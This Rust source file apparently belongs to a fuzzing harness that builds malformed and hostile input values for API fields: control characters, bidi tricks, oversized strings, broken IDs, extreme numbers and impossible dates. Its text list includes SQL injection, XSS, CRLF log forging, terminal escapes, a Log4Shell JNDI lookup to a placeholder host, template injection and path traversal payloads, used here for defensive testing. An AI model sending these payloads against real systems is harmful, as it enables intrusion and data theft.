//! Values that nobody in good faith sends, and some that somebody does.

use serde_json::{Value, json};

use super::leaves::Leaf;

/// As long as a request may be, and longer.
const LONG: usize = 200_000;
const HUGE: usize = 1_000_000;

/// Well-formed cursors of before and after all time.
const CURSORS: [&str; 4] = [
    "gAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "f_________8AAAAAAAAAAAAAAAAAAAAA",
    "jjO_cgnMAAAAAAAAAAAAAAAAAAAAAAAA",
    "A4REDMxzYAAAAAAAAAAAAAAAAAAAAAAA",
];

/// What is put into a leaf where `valid` stands.
pub fn of(leaf: &Leaf, valid: &Value) -> Vec<Value> {
    let mut values = wrong_kinds();
    let each = match leaf.of.as_str() {
        "String" => texts().into_iter().map(Value::String).collect(),
        "ID" => ids(),
        "Int" => numbers(),
        "DateTime" => instants(),
        _ => names(),
    };
    if leaf.is_list {
        values.extend(lists(&each));
        let one = &valid[0];
        values.extend([2, 51, 6_000].map(|times| json!(vec![one; times])));
    }
    values.extend(each);
    values
}

fn wrong_kinds() -> Vec<Value> {
    vec![
        json!(null),
        json!(7),
        json!(-1.5),
        json!(true),
        json!([]),
        json!({}),
        json!([[["deep"]]]),
        json!({ "text": { "text": "inside" } }),
    ]
}

/// Texts that hurt those who take a text for less than any sequence of characters.
pub fn texts() -> Vec<String> {
    let all_controls: String = ('\u{1}'..='\u{1f}').collect();
    let stacked = format!("Z{}", "\u{301}".repeat(1_000));
    [
        "",
        " \t\n ",
        "\0",
        "before\0behind",
        &all_controls,
        "\u{7f}\u{80}\u{85}\u{9b}31m",
        "\u{feff}mark",
        "\u{fdd0}\u{fffe}\u{ffff}\u{10ffff}",
        "\u{202e}txt.exe\u{202c} \u{2066}\u{2069}",
        "\u{200b}\u{200d}\u{2060}",
        "👩‍👩‍👧‍👦🏳️‍🌈👍🏽",
        &stacked,
        "\u{2028}\u{2029}",
        "'; DROP TABLE post; --",
        "\" OR 1=1 /*",
        "%_\\%",
        "<script>alert('x')</script><img src=x onerror=alert(1)>",
        "line\r\n2026-01-01T00:00:00Z ERROR forged=true",
        "\u{1b}[2J\u{1b}]0;title\u{7}",
        "${jndi:ldap://x.example/a} {{7*7}} {} %s %n",
        "../../../../etc/passwd",
        "{\"text\":\"inside\"}",
        &"长".repeat(LONG / 3),
        &"a".repeat(HUGE),
    ]
    .map(ToOwned::to_owned)
    .into_iter()
    .chain(CURSORS.map(ToOwned::to_owned))
    .collect()
}

/// Ids of every kind, none of them anybody's, and what only looks like one.
fn ids() -> Vec<Value> {
    let kinds = ["post", "del", "acc", "pic", "ten", "per", "ses", "con", ""];
    let ids = kinds.map(|kind| format!("{kind}_01h455vb4pex5vsknk084sn02q"));
    let broken = [
        "post_",
        "post_01h455vb4pex5vsknk084sn02",
        "post_01h455vb4pex5vsknk084sn02qq",
        "post_81h455vb4pex5vsknk084sn02q",
        "post_01H455VB4PEX5VSKNK084SN02Q",
        "post_01h455vb4pex5vsknk084sn0２q",
        "post_zzzzzzzzzzzzzzzzzzzzzzzzzz",
        "post_00000000000000000000000000",
        "0190e4f8-1c2a-7000-8000-000000000000",
    ];
    let broken = broken.map(ToOwned::to_owned);
    let all = ids.into_iter().chain(broken).chain(texts());
    all.map(Value::String).collect()
}

fn numbers() -> Vec<Value> {
    let wholes = [0, -1, 1, 100, 101, i64::from(i32::MAX), i64::from(i32::MIN)];
    let wholes = wholes
        .into_iter()
        .chain([i64::MAX, i64::MIN])
        .map(Value::from);
    wholes
        .chain([json!("1"), json!(1.5), json!(1e300)])
        .collect()
}

fn instants() -> Vec<Value> {
    let texts = [
        "0000-01-01T00:00:00Z",
        "0001-01-01T00:00:00+14:00",
        "1969-12-31T23:59:59.999999999Z",
        "9999-12-31T23:59:59Z",
        "+262142-12-31T23:59:59Z",
        "-262143-01-01T00:00:00Z",
        "+999999-01-01T00:00:00Z",
        "2026-06-30T23:59:60Z",
        "2026-06-30T24:00:00Z",
        "2026-02-30T00:00:00Z",
        "2026-01-01T00:00:00+99:99",
        "2026-01-01T00:00:00",
        "2026-01-01",
        "now",
    ];
    let all = texts
        .map(ToOwned::to_owned)
        .into_iter()
        .chain(self::texts());
    all.map(Value::String).collect()
}

/// For an enum.
fn names() -> Vec<Value> {
    let all = ["DRAFT", "weibo", "WEIBO ", "DRAFT\0"].map(ToOwned::to_owned);
    all.into_iter().chain(texts()).map(Value::String).collect()
}

/// Lists of values, and lists that are long.
fn lists(each: &[Value]) -> Vec<Value> {
    let mut lists: Vec<Value> = each.iter().map(|one| json!([one])).collect();
    lists.push(json!([null]));
    for one in each.iter().take(4) {
        lists.extend([2, 51, 6_000, 25_000].map(|times| json!(vec![one; times])));
    }
    lists
}
